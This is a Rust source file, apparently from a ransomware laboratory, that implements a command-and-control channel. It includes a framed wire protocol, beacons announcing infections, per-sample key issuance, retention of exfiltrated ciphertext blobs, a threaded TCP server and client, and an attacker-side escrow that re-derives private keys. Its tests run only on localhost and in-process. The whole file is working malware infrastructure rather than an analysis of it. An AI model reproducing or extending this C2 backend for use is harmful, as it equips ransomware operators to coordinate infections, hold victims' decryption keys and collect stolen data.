//! Command-and-control channel for the laboratory.
//!
//! Wire format: `u32 BE payload-length | u8 message-type | payload`. The
//! length field covers the payload only, so the theoretical payload bound is
//! u32::MAX; this implementation additionally caps frames at [`MAX_PAYLOAD`]
//! octets to keep a hostile length prefix from forcing a 4 GiB allocation.
//!
//! The protocol is deliberately tiny: BEACON announces an infection,
//! KEY_REQUEST asks for governing key material (symmetric key, or the public
//! half of a pair whose private half never leaves the C2), EXFIL ships a
//! ciphertext blob for retention, and ACK/KEY_RESPONSE answer. Issued keys
//! derive deterministically from the C2 seed and the sample id, so a rebuilt
//! server re-issues identical keys.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use thiserror::Error;

use crate::crypto::{encode_key_material, BlobProducer, CipherBlob, KeyForge, KeyMaterial};
use crate::util::fnv1a;

/// Server-side cap on declared payload length (64 MiB).
pub const MAX_PAYLOAD: u32 = 64 * 1024 * 1024;

#[derive(Debug, Error, PartialEq, Eq)]
pub enum C2Error {
    /// Frame-level damage: truncation, oversize declared length.
    #[error("frame error: {0}")]
    Frame(String),
    /// Well-framed but semantically invalid message.
    #[error("protocol error: {0}")]
    Protocol(String),
    /// Endpoint could not be reached at all.
    #[error("c2 unreachable: {0}")]
    Unreachable(String),
    /// Transport failed mid-conversation.
    #[error("transport error: {0}")]
    Transport(String),
}

/// Key flavor a sample may request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum KeyScheme {
    Symmetric,
    AsymmetricPublic,
}

impl KeyScheme {
    fn tag(self) -> u8 {
        match self {
            KeyScheme::Symmetric => 1,
            KeyScheme::AsymmetricPublic => 2,
        }
    }

    fn from_tag(tag: u8) -> Result<Self, C2Error> {
        match tag {
            1 => Ok(KeyScheme::Symmetric),
            2 => Ok(KeyScheme::AsymmetricPublic),
            other => Err(C2Error::Protocol(format!("unknown key scheme {other:#04x}"))),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum C2Message {
    Beacon { sample_id: String },
    KeyRequest { sample_id: String, scheme: KeyScheme },
    /// Serialized key material (see [`crate::crypto::encode_key_material`]).
    KeyResponse { material: Vec<u8> },
    Exfil { blob: CipherBlob },
    Ack,
}

// ==== frame codec ===========================================================

const TYPE_BEACON: u8 = 0x01;
const TYPE_KEY_REQUEST: u8 = 0x02;
const TYPE_KEY_RESPONSE: u8 = 0x03;
const TYPE_EXFIL: u8 = 0x04;
const TYPE_ACK: u8 = 0x05;

fn put_str(out: &mut Vec<u8>, s: &str) -> Result<(), C2Error> {
    let len = u16::try_from(s.len())
        .map_err(|_| C2Error::Protocol(format!("string field of {} octets too long", s.len())))?;
    out.extend_from_slice(&len.to_be_bytes());
    out.extend_from_slice(s.as_bytes());
    Ok(())
}

struct Cursor<'a> {
    bytes: &'a [u8],
    at: usize,
}

impl<'a> Cursor<'a> {
    fn take(&mut self, n: usize) -> Result<&'a [u8], C2Error> {
        if self.at + n > self.bytes.len() {
            return Err(C2Error::Frame(format!(
                "payload truncated: wanted {n} octets at offset {}, have {}",
                self.at,
                self.bytes.len()
            )));
        }
        let slice = &self.bytes[self.at..self.at + n];
        self.at += n;
        Ok(slice)
    }

    fn take_u8(&mut self) -> Result<u8, C2Error> {
        Ok(self.take(1)?[0])
    }

    fn take_u16(&mut self) -> Result<u16, C2Error> {
        Ok(u16::from_be_bytes(self.take(2)?.try_into().unwrap()))
    }

    fn take_u32(&mut self) -> Result<u32, C2Error> {
        Ok(u32::from_be_bytes(self.take(4)?.try_into().unwrap()))
    }

    fn take_str(&mut self) -> Result<String, C2Error> {
        let len = self.take_u16()? as usize;
        let raw = self.take(len)?;
        String::from_utf8(raw.to_vec()).map_err(|_| C2Error::Protocol("string field is not UTF-8".into()))
    }

    fn finish(self) -> Result<(), C2Error> {
        if self.at != self.bytes.len() {
            return Err(C2Error::Protocol(format!(
                "{} trailing octets after message payload",
                self.bytes.len() - self.at
            )));
        }
        Ok(())
    }
}

fn encode_payload(msg: &C2Message) -> Result<(u8, Vec<u8>), C2Error> {
    let mut payload = Vec::new();
    let ty = match msg {
        C2Message::Beacon { sample_id } => {
            put_str(&mut payload, sample_id)?;
            TYPE_BEACON
        }
        C2Message::KeyRequest { sample_id, scheme } => {
            put_str(&mut payload, sample_id)?;
            payload.push(scheme.tag());
            TYPE_KEY_REQUEST
        }
        C2Message::KeyResponse { material } => {
            payload.extend_from_slice(material);
            TYPE_KEY_RESPONSE
        }
        C2Message::Exfil { blob } => {
            put_str(&mut payload, &blob.blob_id)?;
            payload.push(match blob.producer {
                BlobProducer::FileEncryption => 1,
                BlobProducer::KeyWrap => 2,
            });
            let len = u32::try_from(blob.bytes.len())
                .map_err(|_| C2Error::Frame("blob exceeds u32 framing".into()))?;
            payload.extend_from_slice(&len.to_be_bytes());
            payload.extend_from_slice(&blob.bytes);
            TYPE_EXFIL
        }
        C2Message::Ack => TYPE_ACK,
    };
    Ok((ty, payload))
}

/// Serialize a message to one wire frame.
pub fn encode_frame(msg: &C2Message) -> Result<Vec<u8>, C2Error> {
    let (ty, payload) = encode_payload(msg)?;
    let len = u32::try_from(payload.len()).map_err(|_| C2Error::Frame("payload exceeds u32".into()))?;
    if len > MAX_PAYLOAD {
        return Err(C2Error::Frame(format!("payload of {len} octets exceeds cap {MAX_PAYLOAD}")));
    }
    let mut frame = Vec::with_capacity(5 + payload.len());
    frame.extend_from_slice(&len.to_be_bytes());
    frame.push(ty);
    frame.extend_from_slice(&payload);
    Ok(frame)
}

fn decode_payload(ty: u8, payload: &[u8]) -> Result<C2Message, C2Error> {
    let mut c = Cursor { bytes: payload, at: 0 };
    let msg = match ty {
        TYPE_BEACON => C2Message::Beacon { sample_id: c.take_str()? },
        TYPE_KEY_REQUEST => {
            let sample_id = c.take_str()?;
            let scheme = KeyScheme::from_tag(c.take_u8()?)?;
            C2Message::KeyRequest { sample_id, scheme }
        }
        TYPE_KEY_RESPONSE => {
            let material = c.take(payload.len())?.to_vec();
            C2Message::KeyResponse { material }
        }
        TYPE_EXFIL => {
            let blob_id = c.take_str()?;
            let producer = match c.take_u8()? {
                1 => BlobProducer::FileEncryption,
                2 => BlobProducer::KeyWrap,
                other => return Err(C2Error::Protocol(format!("unknown blob producer {other}"))),
            };
            let len = c.take_u32()? as usize;
            let bytes = c.take(len)?.to_vec();
            C2Message::Exfil { blob: CipherBlob { blob_id, producer, bytes } }
        }
        TYPE_ACK => C2Message::Ack,
        other => return Err(C2Error::Protocol(format!("unknown message type {other:#04x}"))),
    };
    c.finish()?;
    Ok(msg)
}

/// Decode one frame from the front of `bytes`; returns the message and the
/// number of octets consumed.
pub fn decode_frame(bytes: &[u8]) -> Result<(C2Message, usize), C2Error> {
    if bytes.len() < 5 {
        return Err(C2Error::Frame(format!("frame header truncated ({} octets)", bytes.len())));
    }
    let len = u32::from_be_bytes(bytes[..4].try_into().unwrap());
    if len > MAX_PAYLOAD {
        return Err(C2Error::Frame(format!("declared payload {len} exceeds cap {MAX_PAYLOAD}")));
    }
    let len = len as usize;
    if bytes.len() < 5 + len {
        return Err(C2Error::Frame(format!(
            "frame truncated: declared {len} payload octets, have {}",
            bytes.len() - 5
        )));
    }
    let msg = decode_payload(bytes[4], &bytes[5..5 + len])?;
    Ok((msg, 5 + len))
}

// ==== server state ==========================================================

/// C2 endpoint state: deterministic key issuance plus exfil retention.
#[derive(Debug, Default)]
pub struct C2State {
    seed: u64,
    issued: BTreeMap<(String, u8), KeyMaterial>,
    received_blobs: Vec<CipherBlob>,
    beacons: u64,
}

impl C2State {
    pub fn new(seed: u64) -> Self {
        C2State { seed, ..Default::default() }
    }

    /// Handle one inbound message, mutating state and producing the reply.
    pub fn handle(&mut self, msg: &C2Message) -> Result<C2Message, C2Error> {
        match msg {
            C2Message::Beacon { .. } => {
                self.beacons += 1;
                Ok(C2Message::Ack)
            }
            C2Message::KeyRequest { sample_id, scheme } => {
                // issue() only ever stores Sym or Public forms, so the wire
                // never carries a private half.
                let material = self.issue(sample_id, *scheme).clone();
                Ok(C2Message::KeyResponse { material: encode_key_material(&material) })
            }
            C2Message::Exfil { blob } => {
                self.received_blobs.push(blob.clone());
                Ok(C2Message::Ack)
            }
            C2Message::KeyResponse { .. } | C2Message::Ack => {
                Err(C2Error::Protocol("response-type message sent to the endpoint".into()))
            }
        }
    }

    fn issue(&mut self, sample_id: &str, scheme: KeyScheme) -> &KeyMaterial {
        let key = (sample_id.to_string(), scheme.tag());
        if !self.issued.contains_key(&key) {
            let derived = self.seed ^ fnv1a(sample_id.as_bytes()).rotate_left(u32::from(scheme.tag()));
            let mut forge = KeyForge::prefixed(derived, &format!("c2-{sample_id}-"));
            let material = match scheme {
                KeyScheme::Symmetric => KeyMaterial::Sym(forge.sym_key()),
                KeyScheme::AsymmetricPublic => KeyMaterial::Public(forge.asym_pair().public),
            };
            self.issued.insert(key.clone(), material);
        }
        &self.issued[&key]
    }

    /// Every blob retained from EXFIL messages, in arrival order.
    pub fn received_blobs(&self) -> &[CipherBlob] {
        &self.received_blobs
    }

    pub fn beacon_count(&self) -> u64 {
        self.beacons
    }

    /// Attacker-side key escrow: everything needed to decrypt what this
    /// endpoint issued keys for. Pairs are re-derived so the private halves
    /// are available even though only public halves ever crossed the wire.
    pub fn escrow(&self) -> Vec<KeyMaterial> {
        self.issued
            .iter()
            .map(|((sample_id, tag), material)| match material {
                KeyMaterial::Sym(k) => KeyMaterial::Sym(k.clone()),
                KeyMaterial::Public(_) => {
                    let derived =
                        self.seed ^ fnv1a(sample_id.as_bytes()).rotate_left(u32::from(*tag));
                    let mut forge = KeyForge::prefixed(derived, &format!("c2-{sample_id}-"));
                    KeyMaterial::Private(forge.asym_pair().private)
                }
                KeyMaterial::Private(k) => KeyMaterial::Private(k.clone()),
            })
            .collect()
    }
}

// ==== transports ============================================================

/// A client-side channel to a C2 endpoint.
pub trait C2Transport {
    fn roundtrip(&mut self, msg: &C2Message) -> Result<C2Message, C2Error>;
}

/// In-process endpoint: the default for tests and `--c2 inproc`.
pub struct InProcC2 {
    state: C2State,
}

impl InProcC2 {
    pub fn new(seed: u64) -> Self {
        InProcC2 { state: C2State::new(seed) }
    }

    pub fn state(&self) -> &C2State {
        &self.state
    }
}

impl C2Transport for InProcC2 {
    fn roundtrip(&mut self, msg: &C2Message) -> Result<C2Message, C2Error> {
        // Round-trip through the codec so the in-process path exercises the
        // same wire format as the socket path.
        let frame = encode_frame(msg)?;
        let (decoded, _) = decode_frame(&frame)?;
        let reply = self.state.handle(&decoded)?;
        let reply_frame = encode_frame(&reply)?;
        Ok(decode_frame(&reply_frame)?.0)
    }
}

fn read_frame(stream: &mut impl Read) -> Result<C2Message, C2Error> {
    let mut header = [0u8; 5];
    stream
        .read_exact(&mut header)
        .map_err(|e| C2Error::Transport(format!("reading frame header: {e}")))?;
    let len = u32::from_be_bytes(header[..4].try_into().unwrap());
    if len > MAX_PAYLOAD {
        return Err(C2Error::Frame(format!("declared payload {len} exceeds cap {MAX_PAYLOAD}")));
    }
    let mut payload = vec![0u8; len as usize];
    stream
        .read_exact(&mut payload)
        .map_err(|e| C2Error::Transport(format!("reading frame payload: {e}")))?;
    decode_payload(header[4], &payload)
}

fn write_frame(stream: &mut impl Write, msg: &C2Message) -> Result<(), C2Error> {
    let frame = encode_frame(msg)?;
    stream
        .write_all(&frame)
        .and_then(|()| stream.flush())
        .map_err(|e| C2Error::Transport(format!("writing frame: {e}")))
}

/// TCP client for `--c2 <addr>`.
pub struct TcpC2Client {
    stream: TcpStream,
}

impl TcpC2Client {
    pub fn connect(addr: &str) -> Result<Self, C2Error> {
        let stream = TcpStream::connect(addr)
            .map_err(|e| C2Error::Unreachable(format!("connect {addr}: {e}")))?;
        stream.set_nodelay(true).ok();
        Ok(TcpC2Client { stream })
    }
}

impl C2Transport for TcpC2Client {
    fn roundtrip(&mut self, msg: &C2Message) -> Result<C2Message, C2Error> {
        write_frame(&mut self.stream, msg)?;
        read_frame(&mut self.stream)
    }
}

/// Local stream-socket C2 endpoint. One handler thread per connection;
/// state mutations serialize through a mutex, per-connection order follows
/// from the request/response discipline.
pub struct C2Server {
    addr: SocketAddr,
    state: Arc<Mutex<C2State>>,
    stop: Arc<AtomicBool>,
    /// One clone of every accepted socket, so shutdown can unblock handler
    /// threads that are parked in a read on a still-open connection.
    conns: Arc<Mutex<Vec<TcpStream>>>,
    workers: Arc<Mutex<Vec<std::thread::JoinHandle<()>>>>,
    accept_thread: Option<std::thread::JoinHandle<()>>,
}

impl C2Server {
    pub fn spawn(listen: &str, seed: u64) -> Result<C2Server, C2Error> {
        let listener = TcpListener::bind(listen)
            .map_err(|e| C2Error::Unreachable(format!("bind {listen}: {e}")))?;
        listener
            .set_nonblocking(true)
            .map_err(|e| C2Error::Transport(format!("set_nonblocking: {e}")))?;
        let addr = listener.local_addr().map_err(|e| C2Error::Transport(e.to_string()))?;
        let state = Arc::new(Mutex::new(C2State::new(seed)));
        let stop = Arc::new(AtomicBool::new(false));
        let conns = Arc::new(Mutex::new(Vec::new()));
        let workers = Arc::new(Mutex::new(Vec::new()));
        let accept_state = Arc::clone(&state);
        let accept_stop = Arc::clone(&stop);
        let accept_conns = Arc::clone(&conns);
        let accept_workers = Arc::clone(&workers);
        let accept_thread = std::thread::spawn(move || {
            while !accept_stop.load(Ordering::Relaxed) {
                match listener.accept() {
                    Ok((stream, _peer)) => {
                        stream.set_nonblocking(false).ok();
                        if let Ok(clone) = stream.try_clone() {
                            accept_conns.lock().expect("c2 conn registry").push(clone);
                        }
                        let conn_state = Arc::clone(&accept_state);
                        let handle =
                            std::thread::spawn(move || serve_connection(stream, conn_state));
                        accept_workers.lock().expect("c2 worker registry").push(handle);
                    }
                    Err(ref e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                        std::thread::sleep(Duration::from_millis(10));
                    }
                    Err(_) => break,
                }
            }
        });
        Ok(C2Server { addr, state, stop, conns, workers, accept_thread: Some(accept_thread) })
    }

    pub fn local_addr(&self) -> SocketAddr {
        self.addr
    }

    /// Snapshot of the endpoint state (blobs received so far, escrow).
    pub fn with_state<T>(&self, f: impl FnOnce(&C2State) -> T) -> T {
        f(&self.state.lock().expect("c2 state lock"))
    }

    /// Stop accepting, sever every open connection, and join all threads.
    /// Safe to call while clients are still connected.
    pub fn shutdown(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        // Join the acceptor first: afterwards the connection registry is
        // complete and no further sockets can appear.
        if let Some(t) = self.accept_thread.take() {
            t.join().ok();
        }
        for conn in self.conns.lock().expect("c2 conn registry").drain(..) {
            conn.shutdown(std::net::Shutdown::Both).ok();
        }
        let handles: Vec<_> =
            self.workers.lock().expect("c2 worker registry").drain(..).collect();
        for w in handles {
            w.join().ok();
        }
    }
}

impl Drop for C2Server {
    fn drop(&mut self) {
        self.shutdown();
    }
}

fn serve_connection(mut stream: TcpStream, state: Arc<Mutex<C2State>>) {
    loop {
        let msg = match read_frame(&mut stream) {
            Ok(m) => m,
            Err(_) => return, // EOF or damage: drop the connection
        };
        let reply = {
            let mut guard = state.lock().expect("c2 state lock");
            guard.handle(&msg)
        };
        match reply {
            Ok(r) => {
                if write_frame(&mut stream, &r).is_err() {
                    return;
                }
            }
            Err(_) => return, // protocol violation: close
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::crypto::decode_key_material;

    #[test]
    fn frame_round_trips_every_type() {
        let blob = CipherBlob { blob_id: "b7".into(), producer: BlobProducer::KeyWrap, bytes: vec![1, 2, 3] };
        for msg in [
            C2Message::Beacon { sample_id: "s1".into() },
            C2Message::KeyRequest { sample_id: "s1".into(), scheme: KeyScheme::Symmetric },
            C2Message::KeyRequest { sample_id: "s1".into(), scheme: KeyScheme::AsymmetricPublic },
            C2Message::KeyResponse { material: vec![9, 9, 9] },
            C2Message::Exfil { blob },
            C2Message::Ack,
        ] {
            let frame = encode_frame(&msg).unwrap();
            let (decoded, used) = decode_frame(&frame).unwrap();
            assert_eq!(used, frame.len());
            assert_eq!(decoded, msg);
        }
    }

    #[test]
    fn one_mebibyte_exfil_round_trips() {
        let blob = CipherBlob {
            blob_id: "big".into(),
            producer: BlobProducer::FileEncryption,
            bytes: vec![0xA5; 1024 * 1024],
        };
        let msg = C2Message::Exfil { blob };
        let frame = encode_frame(&msg).unwrap();
        assert_eq!(decode_frame(&frame).unwrap().0, msg);
    }

    #[test]
    fn truncated_frame_is_a_frame_error() {
        let frame = encode_frame(&C2Message::Beacon { sample_id: "s".into() }).unwrap();
        assert!(matches!(decode_frame(&frame[..frame.len() - 1]), Err(C2Error::Frame(_))));
        assert!(matches!(decode_frame(&frame[..3]), Err(C2Error::Frame(_))));
    }

    #[test]
    fn oversize_declared_length_is_a_frame_error() {
        let mut frame = vec![0xFF, 0xFF, 0xFF, 0xFF, TYPE_ACK];
        frame.extend_from_slice(&[0; 16]);
        assert!(matches!(decode_frame(&frame), Err(C2Error::Frame(_))));
    }

    #[test]
    fn unknown_message_type_is_a_protocol_error() {
        let frame = [0, 0, 0, 0, 0x7F];
        assert!(matches!(decode_frame(&frame), Err(C2Error::Protocol(_))));
    }

    #[test]
    fn unknown_key_scheme_is_a_protocol_error() {
        // KEY_REQUEST with scheme octet 9.
        let mut payload = Vec::new();
        put_str(&mut payload, "s1").unwrap();
        payload.push(9);
        let mut frame = (payload.len() as u32).to_be_bytes().to_vec();
        frame.push(TYPE_KEY_REQUEST);
        frame.extend_from_slice(&payload);
        assert!(matches!(decode_frame(&frame), Err(C2Error::Protocol(_))));
    }

    #[test]
    fn repeated_beacon_acks_idempotently() {
        let mut state = C2State::new(3);
        for _ in 0..3 {
            let reply = state.handle(&C2Message::Beacon { sample_id: "s".into() }).unwrap();
            assert_eq!(reply, C2Message::Ack);
        }
        assert_eq!(state.beacon_count(), 3);
    }

    #[test]
    fn symmetric_issue_is_reproducible_from_seed() {
        let req = C2Message::KeyRequest { sample_id: "sample-9".into(), scheme: KeyScheme::Symmetric };
        let mut a = C2State::new(11);
        let mut b = C2State::new(11);
        assert_eq!(a.handle(&req).unwrap(), b.handle(&req).unwrap());
        let mut c = C2State::new(12);
        assert_ne!(a.handle(&req).unwrap(), c.handle(&req).unwrap());
    }

    #[test]
    fn asymmetric_issue_returns_public_half_only() {
        let mut state = C2State::new(4);
        let reply = state
            .handle(&C2Message::KeyRequest { sample_id: "s".into(), scheme: KeyScheme::AsymmetricPublic })
            .unwrap();
        let C2Message::KeyResponse { material } = reply else { panic!("expected key response") };
        let (decoded, _) = decode_key_material(&material).unwrap();
        assert!(matches!(decoded, KeyMaterial::Public(_)));
        // The escrow carries the matching private half.
        let escrow = state.escrow();
        assert!(escrow.iter().any(|m| matches!(m, KeyMaterial::Private(_))));
    }

    #[test]
    fn escrow_private_half_matches_issued_public_half() {
        let mut state = C2State::new(21);
        let reply = state
            .handle(&C2Message::KeyRequest { sample_id: "s".into(), scheme: KeyScheme::AsymmetricPublic })
            .unwrap();
        let C2Message::KeyResponse { material } = reply else { panic!() };
        let (KeyMaterial::Public(public), _) = decode_key_material(&material).unwrap() else {
            panic!()
        };
        let escrow = state.escrow();
        let private = escrow
            .iter()
            .find_map(|m| match m {
                KeyMaterial::Private(k) => Some(k.clone()),
                _ => None,
            })
            .unwrap();
        let ct = crate::crypto::asym_encrypt(&public, b"prove the pair matches").unwrap();
        assert_eq!(crate::crypto::asym_decrypt(&private, &ct).unwrap(), b"prove the pair matches");
    }

    #[test]
    fn exfil_blobs_are_retained_exactly() {
        let mut state = C2State::new(0);
        let blob = CipherBlob { blob_id: "c9".into(), producer: BlobProducer::KeyWrap, bytes: vec![4, 5] };
        state.handle(&C2Message::Exfil { blob: blob.clone() }).unwrap();
        assert_eq!(state.received_blobs(), &[blob]);
    }

    #[test]
    fn response_type_messages_to_endpoint_are_protocol_errors() {
        let mut state = C2State::new(0);
        assert!(matches!(state.handle(&C2Message::Ack), Err(C2Error::Protocol(_))));
        assert!(matches!(
            state.handle(&C2Message::KeyResponse { material: vec![] }),
            Err(C2Error::Protocol(_))
        ));
    }

    #[test]
    fn inproc_transport_round_trips() {
        let mut c2 = InProcC2::new(8);
        let reply = c2.roundtrip(&C2Message::Beacon { sample_id: "s".into() }).unwrap();
        assert_eq!(reply, C2Message::Ack);
    }

    #[test]
    fn tcp_transport_round_trips_and_retains() {
        let mut server = C2Server::spawn("127.0.0.1:0", 17).unwrap();
        let addr = server.local_addr().to_string();
        let mut client = TcpC2Client::connect(&addr).unwrap();
        assert_eq!(client.roundtrip(&C2Message::Beacon { sample_id: "t".into() }).unwrap(), C2Message::Ack);
        let blob = CipherBlob { blob_id: "x".into(), producer: BlobProducer::KeyWrap, bytes: vec![7; 32] };
        client.roundtrip(&C2Message::Exfil { blob: blob.clone() }).unwrap();
        assert_eq!(server.with_state(|s| s.received_blobs().to_vec()), vec![blob]);
        server.shutdown();
    }

    #[test]
    fn tcp_concurrent_clients_serialize_state() {
        let server = C2Server::spawn("127.0.0.1:0", 5).unwrap();
        let addr = server.local_addr().to_string();
        let mut handles = Vec::new();
        for t in 0..4 {
            let addr = addr.clone();
            handles.push(std::thread::spawn(move || {
                let mut client = TcpC2Client::connect(&addr).unwrap();
                for i in 0..10 {
                    let blob = CipherBlob {
                        blob_id: format!("t{t}-{i}"),
                        producer: BlobProducer::FileEncryption,
                        bytes: vec![t; 8],
                    };
                    let reply = client.roundtrip(&C2Message::Exfil { blob }).unwrap();
                    assert_eq!(reply, C2Message::Ack);
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(server.with_state(|s| s.received_blobs().len()), 40);
    }

    #[test]
    fn unreachable_endpoint_is_reported() {
        // Port 1 on localhost is essentially never listening.
        assert!(matches!(TcpC2Client::connect("127.0.0.1:1"), Err(C2Error::Unreachable(_))));
    }
}
